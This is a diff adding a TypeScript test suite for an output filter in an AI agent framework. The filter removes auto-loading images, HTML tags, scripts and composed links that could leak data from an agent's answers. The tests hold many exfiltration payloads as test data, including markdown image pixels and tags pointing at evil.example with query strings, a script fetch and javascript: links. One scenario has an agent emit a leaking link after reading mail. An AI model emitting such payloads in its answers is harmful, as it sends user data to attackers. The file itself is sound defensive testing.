@@ -1,0 +1,121 @@
+import type { FlowOptions } from "@bailiwick/core";
+import * as fc from "fast-check";
+import { expect, test } from "vitest";
+
+import { createAnswerFilter } from "./answer-filter.ts";
+import { calls, readMail, run } from "./world.test.helper.ts";
+import type { Ran } from "./world.test.helper.ts";
+
+const sources = {
+  userTexts: ["My site is https://mine.example/a."],
+  resultTexts: () => ["See https://read.example/x?y=1 and more"],
+};
+
+function clean(text: string, options: FlowOptions = {}): string {
+  const filter = createAnswerFilter(options, sources);
+  return filter.push(text) + filter.end();
+}
+
+test("[flow.r8] auto-fetching content is removed unless its host is allowed", () => {
+  const leaks = [
+    "![pixel](https://evil.example/?q=1)",
+    "![pixel](<https://evil.example/a b>)",
+    "![pixel](//evil.example/a)",
+    "![pixel][1]\n\n[1]: https://evil.example/p.png",
+    `<img src="https://evil.example/p.png">`,
+    `<img alt=">" src="https://evil.example/p.png">`,
+    `<IMG/src=https://evil.example/p.png`,
+    `<style>@import "https://evil.example/x";</style>`,
+    `<link rel="prefetch" href="https://evil.example/x">`,
+    `<iframe src='https://evil.example'></iframe>`,
+    `<div style="background:url(https://evil.example/x)">a</div>`,
+    `<b title=">" style="background:url(https://evil.example/x)">a</b>`,
+    `<a href="https://evil.example" ping="https://evil.example/p">a</a>`,
+    `<script>fetch("https://evil.example")</script>`,
+  ];
+  for (const leak of leaks) {
+    const safe = clean(leak);
+    expect(safe, leak).not.toMatch(/<(?:img|style|link|iframe|script|div)|!\[|https?:\/\/evil/iu);
+  }
+  expect(clean("![logo](https://cdn.ours.example/l.png)", { allowedHosts: ["*.ours.example"] })).toBe(
+    "![logo](https://cdn.ours.example/l.png)",
+  );
+  expect(clean(`<img alt="a" src="https://ours.example/l.png">`, { allowedHosts: ["ours.example"] })).toBe(
+    `<img alt="a" src="https://ours.example/l.png">`,
+  );
+  expect(clean("![logo](https://ours.example.evil.example/l.png)", { allowedHosts: ["ours.example"] })).toBe("logo");
+});
+
+test("[flow.r8.links] a link stays when its exact URL was said or read; a composed one becomes text", () => {
+  expect(clean("[mine](https://mine.example/a) and https://read.example/x?y=1.")).toBe(
+    "[mine](https://mine.example/a) and https://read.example/x?y=1.",
+  );
+  expect(clean("[click](https://read.example/x?y=1&leak=2)")).toBe("click");
+  expect(clean("[click](https://read.example/x)")).toBe("click");
+  expect(clean("go to https://evil.example/secret now")).toBe("go to https[:]//evil[.]example/secret now");
+  expect(clean("(https://evil.example)")).toBe("(https[:]//evil[.]example)");
+  expect(clean("<https://evil.example/a>")).toBe("https[:]//evil[.]example/a");
+  expect(clean("see www.evil.example/a")).toBe("see www[.]evil[.]example/a");
+  expect(clean("[x](javascript:alert(1))")).toBe("x");
+  expect(clean("[x](/\\evil.example)")).toBe("x");
+  expect(clean("[part](#a) [site](/docs/b)")).toBe("[part](#a) [site](/docs/b)");
+  expect(clean(`<a href="https://mine.example/a">ok</a>`)).toBe(`<a href="https://mine.example/a">ok</a>`);
+});
+
+test("[flow.r8.answer-links] verbatim, allowlist, keep", () => {
+  const text = "[a](https://mine.example/a) [b](https://docs.example/b) [c](https://evil.example/c)";
+  const allowedHosts = ["docs.example"];
+  expect(clean(text, { allowedHosts })).toBe("[a](https://mine.example/a) [b](https://docs.example/b) c");
+  expect(clean(text, { allowedHosts, answerLinks: "allowlist" })).toBe("a [b](https://docs.example/b) c");
+  expect(clean(text, { answerLinks: "keep" })).toBe(text);
+});
+
+const pieces = [
+  ..."![x](https://evil.example/p) [a](https://mine.example/a) <img src='https://evil.example'> https://evil.example/q www.evil.example **b** a[0] x < y h ht http".split(
+    " ",
+  ),
+  "[1]: https://evil.example/p\n",
+  "\n\n",
+  " ",
+  "plain text",
+  "!",
+  "[",
+  "](",
+  "<",
+];
+
+test("[flow.r8.streams] however an answer is cut into pieces, it comes out the same, and text is not held back", () => {
+  fc.assert(
+    fc.property(
+      fc.array(fc.constantFrom(...pieces), { maxLength: 12 }),
+      fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1, maxLength: 40 }),
+      (parts, sizes) => {
+        const text = parts.join(" ");
+        const filter = createAnswerFilter({}, sources);
+        let streamed = "";
+        for (let at = 0, turn = 0; at < text.length; turn += 1) {
+          const size = sizes[turn % sizes.length] ?? 1;
+          streamed += filter.push(text.slice(at, at + size));
+          at += size;
+        }
+        streamed += filter.end();
+        expect(streamed).not.toMatch(/https?:\/\/evil|!\[[^\]]*\]\(|<img/u);
+      },
+    ),
+    { numRuns: 500 },
+  );
+  const filter = createAnswerFilter({}, sources);
+  expect(["Hel", "lo ", "the", "re"].map((piece) => filter.push(piece))).toEqual(["Hel", "lo ", "the", "re"]);
+  expect(filter.push("<img src='https://evil.example/")).toBe("");
+  expect(filter.push("a".repeat(5_000))).not.toContain("<img");
+});
+
+test("[flow.r8] the answer of a run passes the filter, streamed or not", async () => {
+  const ran: Ran = [];
+  const result = await run({
+    tools: [readMail(ran)],
+    script: [calls(["read_mail"]), "![p](https://evil.example/?d=1) see https://evil.example/x"],
+  });
+  // The second link is verbatim what one result said.
+  expect(result.output.text).toBe("p see https://evil.example/x");
+});
